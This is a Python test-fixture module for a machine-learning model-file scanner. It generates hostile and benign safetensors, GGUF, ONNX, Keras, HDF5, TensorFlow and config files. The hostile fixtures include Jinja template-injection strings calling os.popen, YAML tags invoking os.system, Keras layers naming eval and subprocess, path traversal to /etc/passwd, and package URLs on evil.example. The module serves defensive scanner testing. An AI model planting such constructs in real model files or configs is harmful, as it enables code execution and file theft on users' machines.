"""Models that are no pickles: hostile ones, of which none may end clean, and ordinary ones, which must."""

import base64
import io
import json
import marshal
import pickle
import struct
import zipfile
from pathlib import Path

import h5py
import numpy as np
from onnx import helper
from safetensors.numpy import save

from tests.corpora import boxes, ggufs, graphs, keras_configs, mobiles, onnxes
from tests.corpora.protobufs import message

SAMPLES = Path(__file__).parent / "samples"
REACHES = base64.b64encode(marshal.dumps((lambda x: __import__("os").system("true") + x).__code__)).decode()
DOUBLES = base64.b64encode(marshal.dumps((lambda x: x * 2).__code__)).decode()


def malicious_formats():
    """What is special, the file's name, its bytes."""
    yield from _safetensors()
    yield from _gguf()
    yield from _onnx()
    yield from _keras()
    yield from _hdf5()
    yield from _tensorflow()
    yield from _mobile()
    yield from _texts()


def headed(header, data=b""):
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def tensor(start, end):
    return {"dtype": "U8", "shape": [end - start], "data_offsets": [start, end]}


def _safetensors():
    name = "model.safetensors"
    yield "safetensors overlap", name, headed({"a": tensor(0, 4), "b": tensor(2, 6)}, bytes(6))
    yield "safetensors hole", name, headed({"a": tensor(0, 4), "b": tensor(6, 8)}, bytes(8))
    yield "safetensors bytes behind", name, headed({"a": tensor(0, 4)}, bytes(5))
    yield "safetensors cut off", name, headed({"a": tensor(0, 4)}, bytes(3))
    twice = json.dumps({"a": tensor(0, 4)})
    yield "safetensors key twice", name, headed((twice[:-1] + "," + twice[1:]).encode(), bytes(4))
    yield "safetensors huge header", name, struct.pack("<Q", 2**40) + b"{}"
    yield "safetensors deep", name, headed(b'{"a":' + b"[" * 50_000)
    yield "safetensors is a zip", name, b"PK\5\6" + bytes(18) + b"x"
    for path in ("../../etc/passwd", "/etc/passwd", "C:\\x"):
        yield f"index leads to {path}", "model.safetensors.index.json", json.dumps({"weight_map": {"a": path}}).encode()


def _gguf():
    name = "model.gguf"
    for template in (
        "{{ ''.__class__.__mro__ }}",
        "{{ x|attr('__globals__') }}",
        "{{ lipsum.__globals__.os.popen('id') }}",
    ):
        pair = ggufs.pair("tokenizer.chat_template", 8, ggufs.text(template))
        yield f"gguf template {template}", name, ggufs.written([pair])
        yield f"template {template}", "tokenizer_config.json", json.dumps({"chat_template": template}).encode()
    yield "gguf counts", name, ggufs.written(counts=(2**60, 0))
    yield "gguf text length", name, ggufs.written([ggufs.pair("a", 8, struct.pack("<Q", 2**63))])
    yield "gguf array length", name, ggufs.written([ggufs.pair("a", 9, struct.pack("<IQ", 4, 2**62))])
    yield "gguf beyond the file", name, ggufs.written(infos=[ggufs.info("a", [2**40], 0, 0)], data=bytes(64))


def _onnx():
    for path in ("/etc/passwd", "../../x", "..\\x", "file:///x"):
        yield (
            f"onnx data in {path}",
            "model.onnx",
            onnxes.model(initializers=[onnxes.external(path)]).SerializeToString(),
        )
    python = helper.make_node("PyOp", ["x"], ["z"], domain="ai.onnx.contrib")
    yield "onnx python", "model.onnx", onnxes.model([python]).SerializeToString()
    yield "onnx cut off", "model.onnx", onnxes.model().SerializeToString()[:-3]


def _keras():
    for module, name in (
        ("os", "system"),
        ("builtins", "eval"),
        ("subprocess", "Popen"),
        ("keras.utils", "get_file"),
        ("keras.config", "enable_unsafe_deserialization"),
        ("evil.layers", "Layer"),
        ("keras.layers", "TorchModuleWrapper"),
    ):
        config = keras_configs.functional(keras_configs.layer(module, name))
        yield f"keras {module}.{name}", "model.keras", archive(config)
    for what, code in (("reaches", REACHES), ("doubles", DOUBLES)):
        known = {"class_name": "__lambda__", "config": {"code": code}}
        config = keras_configs.functional(
            keras_configs.layer("keras.layers", "Lambda") | {"config": {"function": known}}
        )
        yield f"keras lambda {what}", "model.keras", archive(config)
        yield f"keras lambda {what} in HDF5", "model.h5", hdf5(lambda file, code=code: lambda_layer(file, code))
    vocabulary = keras_configs.layer("keras.layers", "StringLookup", vocabulary="/etc/passwd")
    yield "keras vocabulary", "model.keras", archive(keras_configs.functional(vocabulary))


def archive(config):
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "3.9.0"}))
        file.writestr("config.json", json.dumps(config))
        file.writestr("model.weights.h5", hdf5(lambda each: each.create_dataset("vars/0", data=np.zeros(3))))
    return raw.getvalue()


def lambda_layer(file, code):
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None]}}
    file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}}).encode()


def hdf5(fill, **options):
    raw = io.BytesIO()
    with h5py.File(raw, "w", **options) as file:
        fill(file)
    return raw.getvalue()


def _hdf5():
    yield (
        "hdf5 external link",
        "model.h5",
        hdf5(lambda file: file.__setitem__("x", h5py.ExternalLink("/etc/passwd", "/"))),
    )
    plain = hdf5(lambda file: file.create_dataset("d", data=np.zeros(3)))
    yield "hdf5 behind bytes", "model.h5", bytes(512) + plain
    yield "hdf5 cut off", "model.h5", plain[:400]
    layout = h5py.VirtualLayout((4,), "i1")
    layout[:] = h5py.VirtualSource("other.h5", "d", (4,))
    yield "hdf5 virtual", "model.h5", hdf5(lambda file: file.create_virtual_dataset("v", layout))


def _tensorflow():
    for operator in (
        "ReadFile",
        "WriteFile",
        "MatchingFiles",
        "PyFunc",
        "PyFuncStateless",
        "EagerPyFunc",
        "SaveDatasetV2",
    ):
        yield f"tensorflow {operator}", "saved_model.pb", graphs.saved([operator])
        yield f"tensorflow {operator} in a function", "saved_model.pb", graphs.saved(functions=[operator])
        yield f"tensorflow {operator} frozen", "frozen.pb", message((1, graphs.node(operator)))
        yield f"tensorflow {operator} as text", "saved_model.pbtxt", f'node {{ op: "{operator}" }}'.encode()
    layer = json.dumps({"class_name": "Lambda", "config": {"function": [REACHES, None, None]}})
    yield "keras beside a saved model", "keras_metadata.pb", message((1, message((2, 1), (5, layer))))


def _mobile():
    yield "tflite writes files", "model.tflite", mobiles.tflite("FlexWriteFile")
    yield "tflite cut off", "model.tflite", mobiles.tflite()[:100]
    yield "core ml linked", "model.mlmodel", mobiles.mlmodel(556, message((1, "x")))


def _texts():
    yield "yaml tag", "model_config.yaml", b"a: !!python/object/apply:os.system [x]"
    yield "yaml target", "model_config.yaml", b"a: {_target_: os.system}"
    yield "json target", "config.json", b'{"a": {"_target_": "subprocess.run"}}'
    yield "mlflow loader", "MLmodel", b"flavors: {python_function: {loader_module: evil}}"
    yield "mlflow path", "MLmodel", b"flavors: {python_function: {loader_module: mlflow.sklearn, data: ../../x}}"
    yield "yaml bomb", "MLmodel", b"flavors: &a [x]\nb: &b [*a, *a]\n"
    yield "remote code", "config.json", b'{"auto_map": {"AutoModel": "evil/repo--m.M"}}'
    yield "other index", "requirements.txt", b"--index-url http://evil.example\n"
    yield "package by address", "conda.yaml", b"dependencies: [{pip: ['x @ http://evil.example/x.whl']}]"
    yield "pointer", "model.safetensors", b"version https://git-lfs.github.com/spec/v1\n"


def benign_formats():
    """What it is, the file's name, its bytes."""
    yield "safetensors", "model.safetensors", save({"l.0.w": np.zeros((3, 4), np.float32)}, {"format": "pt"})
    yield "gguf", "model.gguf", ggufs.written([ggufs.pair("tokenizer.chat_template", 8, ggufs.text("{{ messages }}"))])
    yield "onnx", "model.onnx", onnxes.model().SerializeToString()
    yield (
        "onnx with data beside",
        "model.onnx",
        onnxes.model(initializers=[onnxes.external("w.data")]).SerializeToString(),
    )
    yield "keras", "model.keras", archive(keras_configs.functional())
    for version in ("earliest", "v108", "latest"):
        yield f"hdf5 {version}", "m.h5", hdf5(lambda file: file.create_dataset("a/b", data=np.zeros(3)), libver=version)
    yield "saved model", "saved_model.pb", graphs.saved(["SaveV2", "RestoreV2", "MatMul"], ["Relu"])
    yield "fingerprint", "fingerprint.pb", message((1, 7), (2, 8))
    yield "tflite", "model.tflite", mobiles.tflite("FlexAddV2")
    yield "core ml", "model.mlmodel", mobiles.mlmodel(500, mobiles.CUSTOM)
    keys, content = pickle.dumps(["0"], 2), struct.pack("<q", 4) + bytes(16)
    yield "torch before 1.6", "model.pth", boxes.torch_legacy(boxes.tensors(["a"]), keys, content)
    yield "torch module before 1.6", "model.pth", boxes.torch_legacy(boxes.module(), pickle.dumps([], 2), b"")
    for path in sorted(SAMPLES.glob("*.*")):
        yield path.name, path.name, path.read_bytes()
    yield "config", "config.json", b'{"model_type": "llama", "auto_map": {"AutoConfig": "configuration_x.X"}}'
    yield "environment", "conda.yaml", b"channels: [conda-forge]\ndependencies: [python=3.11, {pip: [mlflow==2]}]"
